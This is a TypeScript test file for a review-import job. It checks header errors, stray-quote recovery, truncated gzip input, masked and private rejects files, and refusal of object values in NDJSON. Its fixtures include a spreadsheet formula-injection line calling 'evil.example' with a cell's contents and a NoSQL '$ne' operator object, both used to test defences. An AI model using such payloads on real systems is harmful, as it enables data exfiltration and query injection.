// Input that an import must survive without losing anything (issues 14.6, 14.9, 14.10,
// 15.6): a wrong header or delimiter is one error and nothing imported; a stray quote
// costs one line, not the rest of the file; rejects files are masked, formula-safe and
// private; NDJSON objects are refused with a reason, never stored as "[object Object]".
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ImportInputError } from '../../importers/importer';
import { runImportJob } from '../../jobs/import';
import type { Store } from '../../storage/store';
import type { Config } from '../../config/index';
import { testStore } from '../helpers/store';
import { jobContext } from './helpers';

const dir = mkdtempSync(path.join(os.tmpdir(), 'ringwatch-bad-input-'));
let store: Store & { config: Config };
beforeAll(async () => {
  store = await testStore();
});
afterAll(async () => store?.close());

const write = (name: string, text: string) => {
  const file = path.join(dir, name);
  writeFileSync(file, text);
  return file;
};
const reviewLine = (i: number) => `r${i},u${i % 97},p${i % 13},${1 + (i % 5)},2026-0${1 + (i % 9)}-1${i % 10},text ${i} without quotes ${'and some words '.repeat(6)}`;
const HEADER = 'id,author,product,rating,created_at,text';

describe('import: wrong header or delimiter', () => {
  it('refuses a semicolon file with one error naming the missing columns and those found, importing nothing', async () => {
    const file = write('semi.csv', ['id;author;product;rating;created_at', 'r1;u1;p1;5;2026-01-02', 'r2;u2;p1;4;2026-01-03'].join('\n'));
    const err = await runImportJob(jobContext(store), { what: 'reviews', file }).catch((e: Error) => e);
    expect(err).toBeInstanceOf(ImportInputError);
    expect((err as ImportInputError).exitCode).toBe(2);
    expect((err as Error).message).toMatch(/lacks the required columns author, product, created_at \(found 1 column: "id;author;product;rating;created_at"\)/);
    expect((err as Error).message).toMatch(/";"-separated/);
    expect(await store.posts.count({})).toBe(0);
    expect(await store.accounts.count({})).toBe(0);
  });

  it('names every missing column of a wrong header, once, before any row is read', async () => {
    const rows = Array.from({ length: 500 }, (_, i) => `C${i},2026-01-02,UK,x`);
    const file = write('cases.csv', ['case,opened,region,customer', ...rows].join('\n'));
    const err = (await runImportJob(jobContext(store), { what: 'escalations', file }).catch((e: Error) => e)) as Error;
    expect(err).toBeInstanceOf(ImportInputError);
    expect(err.message).toContain('lacks the required columns case_id, opened_at, customer_id (found 4 columns: "case", "opened", "region", "customer")');
    expect(await store.escalations.count({})).toBe(0);
  });
});

describe('import: a stray quote in a large file', () => {
  it('costs one line: every other row is imported and line numbers are right', async () => {
    const n = 30_000; // ~4 MB
    const lines = [HEADER];
    for (let i = 0; i < n; i++) lines.push(reviewLine(i));
    // No quote follows for 20,000 lines: the field runs on until the bound cuts it.
    lines[3] = 'r2,u2,p2,3,2026-01-12,"unclosed quote, the rest of the file would be one field';
    lines[20_001] = 'r20000,u9,p1,2,2026-01-10,"an ""escaped"" quote is fine"';
    lines[25_001] = 'r25000,u9,p1,2,"2026-01-10" garbage,x';
    const file = write('stray.csv', `${lines.join('\n')}\n`);
    const big = await testStore();
    try {
      const r = await runImportJob(jobContext(big), { what: 'reviews', file, source: 'stray', maxRecordChars: 64 * 1024 });
      expect(r).toMatchObject({ read: n, imported: n - 2, rejected: 2 });
      const rejects = parse(readFileSync(r.rejectsFile as string), { columns: true }) as { line: string; reason: string }[];
      expect(rejects.map((x) => x.line)).toEqual(['4', '25002']);
      expect(rejects[0].reason).toMatch(/longer than 65,536 characters \(an unclosed quote\?\); skipped to the next line/);
      expect(rejects[1].reason).toMatch(/text after a closing quote/);
      expect(await big.posts.count({})).toBe(n - 2);
      expect((await big.posts.get('import:stray:r20000'))?.text).toBe('an "escaped" quote is fine');
      expect((await big.posts.get('import:stray:r3'))?.text).toMatch(/^text 3 without quotes and some words/);
    } finally {
      await big.close();
    }
  }, 120_000);
});

describe('import: a file that cannot be read to its end', () => {
  it('fails the import with the file named (a truncated .gz), instead of reporting success', async () => {
    const lines = [HEADER, ...Array.from({ length: 20_000 }, (_, i) => reviewLine(i))];
    const gz = gzipSync(`${lines.join('\n')}\n`);
    const file = path.join(dir, 'truncated.csv.gz');
    writeFileSync(file, gz.subarray(0, Math.floor(gz.length / 2)));
    const err = (await runImportJob(jobContext(store), { what: 'reviews', file, source: 'truncated' }).catch((e: Error) => e)) as Error;
    expect(err).toBeInstanceOf(Error);
    expect(err.message).toMatch(/truncated\.csv\.gz: could not be read to its end/);
  });
});

describe('import: rejects files', () => {
  it('masks e-mail, phone and card numbers, quotes formulas, and is readable by its owner only', async () => {
    const file = write(
      'pii.csv',
      [
        HEADER,
        'r1,u1,p1,9,2026-01-02,"mail jane.doe@example.com or call 555-123-4567"',
        '=HYPERLINK("http://evil.example/?q="&A1;"click"),u2,p1,3,not a date,"card 4111 1111 1111 1111"',
        'r3,u3,p1,4,2026-01-02,fine',
      ].join('\n'),
    );
    writeFileSync(`${file}.rejects.csv`, 'old');
    chmodSync(`${file}.rejects.csv`, 0o644);
    const r = await runImportJob(jobContext(store), { what: 'reviews', file, source: 'pii' });
    expect(r).toMatchObject({ read: 3, imported: 1, rejected: 2 });
    const text = readFileSync(r.rejectsFile as string, 'utf8');
    expect(text).not.toMatch(/jane\.doe@example\.com|555-123-4567|4111 1111 1111 1111/);
    expect(text).toContain('[email]');
    expect(text).toContain('[phone]');
    expect(text).toContain('[card]');
    const rows = parse(text, { columns: true }) as { line: string; reason: string; record: string }[];
    for (const row of rows) for (const v of Object.values(row)) expect(v).not.toMatch(/^[=+\-@]/);
    expect(rows[1].record.startsWith("'=HYPERLINK(")).toBe(true);
    expect(statSync(r.rejectsFile as string).mode & 0o777).toBe(0o600);
  });

  it('says where refused rows went when they cannot go next to the input: the data folder, not a stopped import', async () => {
    const file = write('unwritable.csv', [HEADER, 'r1,u1,p1,9,2026-01-02,bad rating', 'r2,u2,p1,4,2026-01-02,fine'].join('\n'));
    // `<file>.rejects.csv` cannot be opened (a folder there; for other users a read-only data set's folder).
    mkdirSync(`${file}.rejects.csv`);
    const ctx = jobContext(store, 'fallback-run');
    const r = await runImportJob(ctx, { what: 'reviews', file, source: 'unwritable' });
    expect(r).toMatchObject({ read: 2, imported: 1, rejected: 1 });
    expect(r.rejectsFile).toBe(path.join(ctx.config.dataDir, 'rejects', 'reviews-fallback-run.rejects.csv'));
    expect((parse(readFileSync(r.rejectsFile as string), { columns: true }) as { line: string; reason: string }[]).map((x) => [x.line, x.reason])).toEqual([['2', 'rating "9" is not 1–5']]);
    // A path the user gave is theirs: an error there stops the import with the reason.
    const bad = write('given.csv', [HEADER, 'r3,u3,p1,9,2026-01-02,bad rating'].join('\n'));
    await expect(runImportJob(ctx, { what: 'reviews', file: bad, source: 'unwritable', rejects: `${file}.rejects.csv` })).rejects.toThrow(/EISDIR/);
  });
});

describe('import: NDJSON values that are not cells', () => {
  it('refuses object and array values with a reason instead of storing "[object Object]"', async () => {
    const file = write(
      'objects.ndjson',
      [
        JSON.stringify({ id: 'o1', author: { $ne: null }, product: 'p1', created_at: '2026-01-02' }),
        JSON.stringify({ id: 'o2', author: 'u2', product: ['p1', 'p2'], created_at: '2026-01-02' }),
        JSON.stringify({ id: 'o3', author: 'u3', product: 'p1', created_at: '2026-01-02', text: { html: '<b>x</b>' } }),
        JSON.stringify({ id: 'o4', author: 'u4', product: 'p1', created_at: '2026-01-02', rating: 5, extra: { ignored: true } }),
      ].join('\n'),
    );
    const r = await runImportJob(jobContext(store), { what: 'reviews', file, source: 'objects' });
    expect(r).toMatchObject({ read: 4, imported: 1, rejected: 3 });
    const rejects = parse(readFileSync(r.rejectsFile as string), { columns: true }) as { line: string; reason: string }[];
    expect(rejects.map((x) => [x.line, x.reason])).toEqual([
      ['1', 'author holds a JSON object; expected text, a number or a boolean'],
      ['2', 'product holds a JSON array; expected text, a number or a boolean'],
      ['3', 'text holds a JSON object; expected text, a number or a boolean'],
    ]);
    const stored = await store.posts.find({ source: 'import:objects' });
    expect(stored.map((p) => p._id)).toEqual(['import:objects:o4']);
    expect(JSON.stringify(await store.posts.find({}))).not.toContain('[object Object]');
  });
});
